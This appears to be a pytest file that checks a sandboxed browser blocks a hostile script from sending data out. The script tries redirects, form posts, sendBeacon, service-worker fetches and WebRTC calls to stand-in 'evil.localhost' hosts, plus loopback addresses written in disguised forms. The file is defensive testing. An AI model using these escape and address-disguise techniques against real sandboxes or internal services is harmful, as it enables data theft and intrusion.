"""A hostile polyfill tries every way out there is, against somebody who really listens (HO-5).

The browser is one as a run has it, with no help but its own rules: every `.localhost` name and every loopback address
could be reached by it. Each try goes to a name of its own, so that the report tells which was seen. The same script
reaches the listener from a browser without a fence, which is what makes silence mean something.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.async_api import async_playwright

from fakes.page_runs import Collected, QuietCalls, collect
from fakes.site import SiteHost, Sites
from polyhost.browser.launch import BrowserOptions
from polyhost.browser.locate import find_browser
from polyhost.connectors.page import PageConnector, PagePolyfill

pytestmark = pytest.mark.requirement("HO-5")

WAYS = (Path(__file__).parent / "ways_out.js").read_text(encoding="utf-8")
NAMES = re.findall(r'^  "([a-z ]+)":', WAYS, re.MULTILINE)
SEND_NOTHING = frozenset({"preconnect", "dns prefetch"})
"""Hints that open a connection at most; no browser tells of them, and their names lead nowhere."""
BY_ADDRESS = frozenset({"stun", "turn", "ice"})
"""WebRTC to an address, which is what is reported."""
WEBRTC = frozenset({"turn", "turn name", "ice"})
"""Not requests, so the listener does not know which of them it hears."""
UNHEARD_WITHOUT_A_FENCE = SEND_NOTHING | {"stun", "webtransport"}
"""Nothing to compare with: hints that a headless browser passes over; UDP, which is off in every browser we start."""
NAVIGATIONS = {
    "address": "location.href = URL;",
    "form": "const f = document.createElement('form'); f.method = 'POST'; f.action = URL;"
    " document.body.append(f); f.submit();",
    "redirect": "location.href = '/go';",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${URL}`;"
    " document.head.append(m);",
}
LITERALS = ("127.0.0.1", "[::1]", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]", "localhost")


@dataclass(slots=True)
class Listener:
    """Hears every connection and datagram on one port, of both families. `heard`: what was asked for, or `raw`."""

    port: int = 0
    heard: list[str] = field(default_factory=list)
    connections: int = 0

    async def meet(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        try:
            async with asyncio.timeout(2):
                first = await reader.read(400)
            asked = re.match(rb"[A-Z]+ /(\S*)", first)
            self.heard.append(asked[1].decode().replace("%20", " ") if asked else "raw")
        except TimeoutError:
            self.heard.append("silent")
        finally:
            writer.close()


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, listener: Listener) -> None:
        self._listener = listener

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        self._listener.heard.append("datagram")


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    ears = Listener()
    servers = [await asyncio.start_server(ears.meet, "127.0.0.1", 0)]
    ears.port = servers[0].sockets[0].getsockname()[1]
    servers.append(await asyncio.start_server(ears.meet, "::1", ears.port))
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: _Datagrams(ears), local_addr=("127.0.0.1", ears.port)
    )
    yield ears
    transport.close()
    for server in servers:
        server.close()


def prepared(site: SiteHost, listener: Listener) -> None:
    """The site helps: it redirects out, and its own style sheet and worker lead out."""
    site.page()
    site.redirect("/go", f"http://redirect.evil.localhost:{listener.port}/redirect")
    site.text("/style", f"@import url(http://style.evil.localhost:{listener.port}/style);", "text/css")
    out = json.dumps(f"http://service-worker.evil.localhost:{listener.port}/service%20worker")
    worker = f"oninstall = (event) => event.waitUntil(fetch({out}, {{mode: 'no-cors'}}).catch(() => 0));"
    site.text("/worker", worker, "text/javascript")


async def run(sites: Sites, site: SiteHost, body: str) -> Collected:
    """In a browser of its own with the fence of a live run, no mapping."""
    script = f"polyfill(async (host) => {{ if (host.start.resume) return; {body} }});"
    page = f"http://{site.name}:{sites.port}/"
    connector = PageConnector(
        PagePolyfill(page=page, hosts=(f"{site.name}:{sites.port}",), script=script), browser=BrowserOptions()
    )
    async with connector.open(QuietCalls()) as session:
        return await collect(session)


async def test_no_way_out_reaches_anybody_and_each_try_is_reported(sites: Sites, site: SiteHost, listener: Listener):
    prepared(site, listener)
    body = f"const tried = await ({WAYS})({listener.port}); await host.emit({{stream: 'm', key: 'k', data: tried}});"
    got = await run(sites, site, body)
    assert (listener.connections, listener.heard) == (0, [])
    assert sorted(got.data[0]["tried"]) == sorted(NAMES)
    named = {name.replace(" ", "-"): name for name in NAMES}
    reported = {named[host.removesuffix(".evil.localhost")] for host in got.traffic.blocked if "evil" in host}
    assert set(NAMES) - reported == SEND_NOTHING | BY_ADDRESS | {"shared worker"}
    assert {host for host in got.traffic.blocked if "evil" not in host} == {"127.0.0.1", "(webrtc)", "(shared worker)"}


async def test_without_a_fence_the_same_script_is_heard_each_way(sites: Sites, site: SiteHost, listener: Listener):
    """Else the test above proves nothing."""
    prepared(site, listener)
    async with async_playwright() as playwright:
        flags = [flag for flag in BrowserOptions().flags(None) if "resolver" not in flag]
        browser = await playwright.chromium.launch(executable_path=find_browser(), args=flags)
        page = await browser.new_page()
        await page.goto(f"http://{site.name}:{sites.port}/")
        await page.evaluate(f"({WAYS})({listener.port})")
        await browser.close()
    expected = set(NAMES) - UNHEARD_WITHOUT_A_FENCE - WEBRTC | {"raw"}
    assert expected - set(listener.heard) == set()


@pytest.mark.parametrize("way", NAVIGATIONS)
async def test_leading_the_page_away_carries_nothing_out(sites: Sites, site: SiteHost, listener: Listener, way: str):
    prepared(site, listener)
    url = f"http://redirect.evil.localhost:{listener.port}/?secret"
    got = await run(sites, site, NAVIGATIONS[way].replace("URL", json.dumps(url)) + "await host.sleep(60000);")
    assert [restart.reason for restart in got.restarts] == ["navigation"]
    assert (listener.connections, listener.heard) == (0, [])
    assert got.traffic.blocked == {"redirect.evil.localhost": 1}


async def test_a_page_that_is_to_be_fetched_ahead_is_not(sites: Sites, site: SiteHost, listener: Listener):
    """Behind a proxy, Chromium does not even try."""
    site.page()
    rules = json.dumps({"prefetch": [{"source": "list", "urls": [f"http://ahead.evil.localhost:{listener.port}/"]}]})
    got = await run(
        sites,
        site,
        f"""const it = Object.assign(document.createElement("script"), {{type: "speculationrules"}});
        it.textContent = {json.dumps(rules)};
        document.head.append(it);
        await host.sleep(1500);""",
    )
    assert (listener.connections, got.traffic.blocked) == (0, {})


async def test_without_a_fence_a_page_is_fetched_ahead(sites: Sites, site: SiteHost, listener: Listener):
    """Else the test above proves nothing."""
    site.page()
    async with async_playwright() as playwright:
        flags = [flag for flag in BrowserOptions().flags(None) if "resolver" not in flag]
        browser = await playwright.chromium.launch(executable_path=find_browser(), args=flags)
        page = await browser.new_page()
        await page.goto(f"http://{site.name}:{sites.port}/")
        await page.evaluate(
            """async (url) => {
              const it = Object.assign(document.createElement("script"), {type: "speculationrules"});
              it.textContent = JSON.stringify({prefetch: [{source: "list", urls: [url]}]});
              document.head.append(it);
              await new Promise((done) => setTimeout(done, 1500));
            }""",
            f"http://ahead.evil.localhost:{listener.port}/ahead",
        )
        await browser.close()
    assert "ahead" in listener.heard


async def test_another_port_of_this_machine_is_out_of_reach_however_it_is_written(
    sites: Sites, site: SiteHost, listener: Listener
):
    """A page of a declared site must not reach what else listens here: a router, a database, our own dashboard."""
    site.page()
    urls = json.dumps([f"http://{literal}:{listener.port}/" for literal in LITERALS])
    body = f"""for (const url of {urls}) {{
      await fetch(url, {{mode: "no-cors"}}).catch(() => {{}});
      await new Promise((done) => {{ const s = new WebSocket(url.replace("http", "ws")); s.onclose = done; }});
      await new Promise((done) => {{ const i = new Image(); i.onload = i.onerror = done; i.src = url; }});
      navigator.sendBeacon(url, "secret");
    }}"""
    got = await run(sites, site, body)
    assert (listener.connections, listener.heard) == (0, [])
    assert set(got.traffic.blocked) == {"127.0.0.1", "::1", "::ffff:7f00:1", "localhost"}


async def test_what_a_polyfill_says_of_its_tries_is_bounded_and_no_place_for_content(sites: Sites, site: SiteHost):
    site.page()
    body = """for (const urls of [["stun:a secret text"], Array.from({length: 500}, (_, n) => `stun:h${n}.test`)]) {
      try { new RTCPeerConnection({iceServers: [{urls}]}); } catch {}
    }
    for (let n = 0; n < 150; n += 1) await fetch(`http://n${n}.evil.localhost/`).catch(() => {});
    await host.emit({stream: 'm', key: 'k', data: {}});"""
    got = await run(sites, site, body)
    assert len(got.traffic.blocked) <= 101
    assert got.traffic.blocked["(other)"] > 1
    assert not [host for host in got.traffic.blocked if "secret" in host]
